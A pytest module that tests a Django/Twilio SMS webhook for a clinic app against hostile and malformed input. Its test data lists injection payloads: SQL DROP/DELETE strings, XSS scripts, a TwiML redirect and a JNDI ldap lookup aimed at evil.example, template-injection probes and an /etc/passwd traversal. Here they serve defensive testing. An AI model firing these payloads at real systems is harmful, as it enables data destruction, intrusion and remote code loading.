"""Hostile and broken webhook input: a clear 4xx or a polite TwiML reply, never a 500.

Whatever arrives with a valid signature is stored exactly as Django parsed it (NUL bytes
dropped, as PostgreSQL cannot store them); whatever is refused leaves no row behind.
"""

from typing import Any
from urllib.parse import urlencode

import pytest
from django.http import QueryDict
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from conversations.models import Message
from frontdesk.twilio import SIGNATURE_HEADER, signature_compute
from sms.models import UnroutedMessage
from tenants.scoping import tenant_scope, unscoped
from tests.reliability.conftest import CLINIC_NUMBER, PATIENT
from tests.reliability.webhook import (
    assert_clear_refusal,
    assert_no_leak,
    assert_polite_twiml,
    message_total,
    raw_signed_post,
    stored_inbound,
)
from tests.twilio_helpers import (
    FORM_CONTENT_TYPE,
    TEST_HOST,
    WEBHOOK_PATH,
    form_post,
    new_message_sid,
    signed_post,
    twilio_payload,
)

pytestmark = pytest.mark.django_db

PROPERTY = hypothesis_settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

SCRIPT = "<script>alert(1)</script>"
INJECTIONS = [
    "'; DROP TABLE conversations_message; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM tenants_organization WHERE ('1'='1",
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "<![CDATA[x]]></Message><Redirect>https://evil.example</Redirect>",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n %(body)s",
    "../../../../etc/passwd",
]
TEXTS = [
    "😀🦷👩🏽‍⚕️ can I book? 🇺🇸",
    "مرحبا، أريد موعدا غدا",  # Arabic, right to left
    "שלום \u202eevil\u202c text",  # Hebrew with a right-to-left override
    "zalgo t̸̢̛̖e̵̡̛x̷̧̛t̶̢̛",
    "\ufeffbyte order mark and \u200bzero width",
    "tabs\tand\r\nnewlines\n",
    "",
    "   ",
]
MALFORMED_NUMBERS = [
    "abc",
    "+",
    "++16195551234",
    "1",
    "+1 (619) 555-12",
    "whatsapp:+16195551234",
    "+999999999999999",
    "619-555-1234 ext. 99",
    "<script>alert(1)</script>",
    "1';DROP TABLE x;--",
]


def _stored_content(clinic: Any, sid: str) -> str:
    message = stored_inbound(clinic, sid)
    assert message is not None, f"{sid} was not stored"
    return message.content


def _hostile_post(client, figures, params: dict) -> Any:
    """Send one signed hostile request, counted for the reliability figures."""
    response = signed_post(client, params)
    figures.add("requests")
    figures.add("hostile")
    return response


# --- the table of nasty cases ------------------------------------------------------------------


@pytest.mark.parametrize("body", INJECTIONS + TEXTS)
def test_nasty_bodies_get_a_polite_reply_and_are_stored_verbatim(client, clinic, figures, body):
    params = twilio_payload(Body=body)

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    assert _stored_content(clinic, params["MessageSid"]) == body
    figures.add("stored")


def test_body_of_100_kb_is_stored_whole(client, clinic, figures):
    body = ("Ábc 😀 " * 20000)[:100_000]
    params = twilio_payload(Body=body)

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    assert _stored_content(clinic, params["MessageSid"]) == body
    figures.add("stored")


def test_nul_bytes_in_the_body_are_dropped_and_the_rest_stored(client, clinic, figures):
    params = twilio_payload(Body="\x00a\x00ppointment\x00 please\x00")

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    assert _stored_content(clinic, params["MessageSid"]) == "appointment please"
    figures.add("stored")


@pytest.mark.parametrize("field", ["From", "To", "MessageSid"])
def test_nul_bytes_in_identifiers_are_a_400_and_nothing_is_stored(client, clinic, figures, field):
    params = twilio_payload()
    params[field] = params[field][:5] + "\x00" + params[field][5:]

    response = _hostile_post(client, figures, params)

    assert_clear_refusal(response, 400)
    assert message_total(clinic) == 0


@pytest.mark.parametrize("missing", ["From", "To", "MessageSid"])
def test_missing_required_field_is_a_400_and_nothing_is_stored(client, clinic, figures, missing):
    params = twilio_payload()
    del params[missing]

    response = _hostile_post(client, figures, params)

    assert_clear_refusal(response, 400)
    assert message_total(clinic) == 0


@pytest.mark.parametrize("missing", ["Body", "AccountSid", "NumMedia", "SmsSid", "ApiVersion"])
def test_missing_optional_field_still_gets_a_reply_and_is_stored(client, clinic, figures, missing):
    params = twilio_payload()
    expected = "" if missing == "Body" else params["Body"]
    del params[missing]

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    assert _stored_content(clinic, params["MessageSid"]) == expected
    figures.add("stored")


def test_extra_fields_are_ignored_and_the_message_stored(client, clinic, figures):
    extra = {f"Extra{n}": f"<b>{n}</b>' OR 1=1" for n in range(200)}
    params = {**twilio_payload(Body="Hello"), **extra, "ToCity\x00": "x", "É": "ü"}

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    assert _stored_content(clinic, params["MessageSid"]) == "Hello"
    figures.add("stored")


def test_more_fields_than_django_accepts_is_a_400(client, clinic, figures):
    params = {**twilio_payload(), **{f"F{n}": "x" for n in range(1200)}}

    response = _hostile_post(client, figures, params)

    assert_clear_refusal(response, 400)
    assert message_total(clinic) == 0


def test_body_over_djangos_upload_limit_is_a_4xx(client, clinic, figures, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 200_000
    params = twilio_payload(Body="x" * 300_000)

    response = _hostile_post(client, figures, params)

    assert_clear_refusal(response, 400, 413)
    assert message_total(clinic) == 0


@pytest.mark.parametrize("num_media", ["abc", "-1", "11", "1e3", "\x00"])
def test_nonsense_num_media_is_a_400(client, clinic, figures, num_media):
    params = twilio_payload(NumMedia=num_media)

    response = _hostile_post(client, figures, params)

    assert_clear_refusal(response, 400)
    assert message_total(clinic) == 0


@pytest.mark.parametrize("number", MALFORMED_NUMBERS)
def test_malformed_sender_numbers_get_a_reply_and_are_stored(client, clinic, figures, number):
    params = twilio_payload(From=number, Body="Hi")

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    message = stored_inbound(clinic, params["MessageSid"])
    assert message is not None
    assert message.content == "Hi"
    assert message.metadata["from"].strip() == message.conversation.from_number
    figures.add("stored")


@pytest.mark.parametrize(
    "number", ["+1" + "2" * 40, "x" * 64, "'; DROP TABLE tenants_phonenumber; --"]
)
def test_sender_number_longer_than_a_phone_number_is_a_400(client, clinic, figures, number):
    params = twilio_payload(From=number)

    response = _hostile_post(client, figures, params)

    assert_clear_refusal(response, 400)
    assert message_total(clinic) == 0


@pytest.mark.parametrize("number", ["abc", "+", "1';DROP TABLE x;--", "<b>+1</b>"])
def test_malformed_clinic_numbers_are_kept_unrouted_with_an_empty_reply(
    client, clinic, figures, number
):
    params = twilio_payload(To=number)

    response = _hostile_post(client, figures, params)

    assert assert_polite_twiml(response) == []
    with unscoped():
        assert UnroutedMessage.objects.get(message_sid=params["MessageSid"]).to_number == number
    assert message_total(clinic) == 0
    figures.add("stored")


def test_nul_in_a_param_name_of_an_unrouted_text_does_not_lose_it(client, clinic, figures):
    params = {**twilio_payload(To="+15005550006"), "Odd\x00Name": "v"}

    response = _hostile_post(client, figures, params)

    assert assert_polite_twiml(response) == []
    with unscoped():
        assert UnroutedMessage.objects.filter(message_sid=params["MessageSid"]).exists()
    figures.add("stored")


@pytest.mark.parametrize("sid", ["SM' OR '1'='1", "<script>alert(1)</script>", "😀" * 16])
def test_injection_in_the_message_sid_is_stored_as_plain_text(client, clinic, figures, sid):
    params = twilio_payload(MessageSid=sid, Body="Hello")

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    assert _stored_content(clinic, sid) == "Hello"
    figures.add("stored")


@pytest.mark.parametrize(
    ("field", "status"), [("MessagingServiceSid", 400), ("AccountSid", 400), ("SmsStatus", 200)]
)
def test_nul_bytes_in_other_params_are_refused_or_dropped(client, clinic, figures, field, status):
    params = {**twilio_payload(Body="Hello"), field: "MG\x00'; --"}

    response = _hostile_post(client, figures, params)

    assert_no_leak(response)
    assert response.status_code == status
    if status == 200:
        assert _stored_content(clinic, params["MessageSid"]) == "Hello"
        figures.add("stored")
    else:
        assert message_total(clinic) == 0


# --- raw bodies: broken percent-encoding, invalid UTF-8 ----------------------------------------


def _raw_form(body: bytes, sid: str) -> bytes:
    head = urlencode({"MessageSid": sid, "From": PATIENT, "To": CLINIC_NUMBER, "NumMedia": "0"})
    return head.encode() + b"&Body=" + body


@pytest.mark.parametrize(
    "raw_body",
    [
        b"%E0%A4%A",  # a truncated percent-encoded character
        b"100%25%ZZ%",  # not hex, and a lone percent at the end
        b"\xff\xfe\xfd invalid utf-8",
        b"%C3%28 overlong %C0%AF",
        b"caf\xe9 latin-1",
        b"a%00b",  # an encoded NUL
        b"plus+is+space&&&=&Body",
    ],
)
def test_broken_encoding_in_a_signed_body_is_stored_as_django_parsed_it(
    client, clinic, figures, raw_body
):
    sid = new_message_sid()
    raw = _raw_form(raw_body, sid)
    expected = QueryDict(raw, encoding="utf-8").get("Body", "").replace("\x00", "")

    response = raw_signed_post(client, raw)
    figures.add("requests")
    figures.add("hostile")

    assert_polite_twiml(response)
    assert _stored_content(clinic, sid) == expected
    figures.add("stored")


def test_invalid_utf8_in_the_sender_is_stored_with_replacement_characters(client, clinic, figures):
    sid = new_message_sid()
    raw = f"MessageSid={sid}&To=%2B18504036622&Body=hi&From=%2B1619\xff555".encode("latin-1")

    response = raw_signed_post(client, raw)
    figures.add("requests")
    figures.add("hostile")

    assert_polite_twiml(response)
    assert _stored_content(clinic, sid) == "hi"
    figures.add("stored")


# --- signatures, content types and methods -----------------------------------------------------


def test_wrong_signature_is_a_403_and_nothing_is_stored(client, clinic, figures):
    response = signed_post(client, twilio_payload(), token="f" * 32)
    figures.add("requests")
    figures.add("hostile")

    assert_clear_refusal(response, 403)
    assert message_total(clinic) == 0


def test_stale_signature_replayed_with_a_new_body_is_a_403(client, clinic, figures):
    original = twilio_payload(Body="Book me in")
    signature = signature_compute(url=TEST_HOST + WEBHOOK_PATH, params=original, token="x" * 32)
    tampered = {**original, "Body": "Cancel everything"}

    response = form_post(client, tampered, headers={SIGNATURE_HEADER: signature})
    figures.add("requests")
    figures.add("hostile")

    assert_clear_refusal(response, 403)
    assert message_total(clinic) == 0


def test_signature_for_another_url_is_a_403(client, clinic, figures):
    response = signed_post(client, twilio_payload(), signed_url="https://evil.example/hook")
    figures.add("requests")
    figures.add("hostile")

    assert_clear_refusal(response, 403)
    assert message_total(clinic) == 0


@pytest.mark.parametrize("signature", ["", " ", "not-base64!!", "A" * 5000, "\u202e"])
def test_garbage_signatures_are_refused(client, clinic, figures, signature):
    headers = {SIGNATURE_HEADER: signature} if signature else {}
    response = form_post(client, twilio_payload(), headers=headers)
    figures.add("requests")
    figures.add("hostile")

    assert_clear_refusal(response, 403)
    assert message_total(clinic) == 0


@pytest.mark.parametrize(
    "content_type",
    ["application/json", "text/plain", "multipart/form-data; boundary=x", "application/xml"],
)
def test_wrong_content_type_is_a_415_and_nothing_is_stored(client, clinic, figures, content_type):
    params = twilio_payload()
    raw = urlencode(params).encode()

    response = raw_signed_post(client, raw, content_type=content_type)
    figures.add("requests")
    figures.add("hostile")

    assert_clear_refusal(response, 415)
    assert message_total(clinic) == 0


def test_form_with_a_bogus_charset_is_refused_or_answered(client, clinic, figures):
    raw = urlencode(twilio_payload(Body="hello")).encode()

    response = raw_signed_post(client, raw, content_type=FORM_CONTENT_TYPE + "; charset=bogus-99")
    figures.add("requests")
    figures.add("hostile")

    assert_no_leak(response)
    assert response.status_code in (200, 400, 415)


@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE", "HEAD"])
def test_methods_other_than_post_are_a_405(client, clinic, figures, method):
    raw = urlencode(twilio_payload()).encode()

    response = client.generic(method, WEBHOOK_PATH, raw, content_type=FORM_CONTENT_TYPE)
    figures.add("requests")
    figures.add("hostile")

    assert_clear_refusal(response, 405)
    assert message_total(clinic) == 0


# --- property tests ----------------------------------------------------------------------------

any_text = st.characters(codec="utf-8")


@st.composite
def bodies(draw: Any) -> str:
    """Short text of any character, or a repeated chunk up to about 100 KB."""
    if draw(st.booleans()):
        return str(draw(st.text(any_text, max_size=400)))
    chunk = draw(st.text(any_text, min_size=1, max_size=8))
    return str(chunk * draw(st.integers(min_value=1, max_value=100_000 // len(chunk))))


@PROPERTY
@given(body=bodies())
def test_any_body_gets_a_polite_reply_and_is_stored(client, clinic, figures, body):
    params = twilio_payload(Body=body)

    response = _hostile_post(client, figures, params)

    assert_polite_twiml(response)
    assert _stored_content(clinic, params["MessageSid"]) == body.replace("\x00", "")
    figures.add("stored")


@PROPERTY
@given(number=st.text(any_text, max_size=80))
def test_any_sender_number_is_answered_and_stored_or_refused_with_a_400(
    client, clinic, figures, number
):
    params = twilio_payload(From=number)

    response = _hostile_post(client, figures, params)

    assert_no_leak(response)
    assert response.status_code in (200, 400)
    stored = stored_inbound(clinic, params["MessageSid"])
    if response.status_code == 200:
        assert stored is not None
        figures.add("stored")
    else:
        assert stored is None


FIELDS = ["MessageSid", "From", "To", "Body", "AccountSid", "NumMedia", "SmsSid", "ApiVersion"]


@PROPERTY
@given(
    dropped=st.sets(st.sampled_from(FIELDS), max_size=4),
    extra=st.dictionaries(
        st.text(any_text, min_size=1, max_size=20), st.text(any_text), max_size=8
    ),
)
def test_any_fields_missing_or_added_get_a_reply_or_a_400(client, clinic, figures, dropped, extra):
    params = {**extra, **twilio_payload(Body="Hello")}
    for name in dropped:
        params.pop(name, None)

    response = _hostile_post(client, figures, params)

    assert_no_leak(response)
    required = {"MessageSid", "From", "To"}
    if required & dropped:
        assert_clear_refusal(response, 400)
        return
    assert response.status_code == 200
    expected = "" if "Body" in dropped else "Hello"
    assert _stored_content(clinic, params["MessageSid"]) == expected
    figures.add("stored")


# --- rendering in the admin --------------------------------------------------------------------


def test_hostile_content_renders_escaped_in_the_admin(admin_client, clinic, figures):
    escaped = "&lt;script&gt;alert(1)&lt;/script&gt;"
    params = twilio_payload(Body=SCRIPT, From=PATIENT)
    from_script = twilio_payload(Body="hi", From=SCRIPT)
    for payload in (params, from_script):
        assert signed_post(admin_client, payload).status_code == 200
        figures.add("requests")
        figures.add("hostile")
    with tenant_scope(clinic):
        message = Message.objects.get(provider_message_id=params["MessageSid"])
        conversation_id = message.conversation_id

    change = admin_client.get(
        reverse("admin:conversations_conversation_change", args=[conversation_id])
    )
    listing = admin_client.get(reverse("admin:conversations_conversation_changelist"))

    for page in (change, listing):  # the transcript; the list's patient column
        assert page.status_code == 200
        html = page.content.decode()
        assert SCRIPT not in html
        assert escaped in html
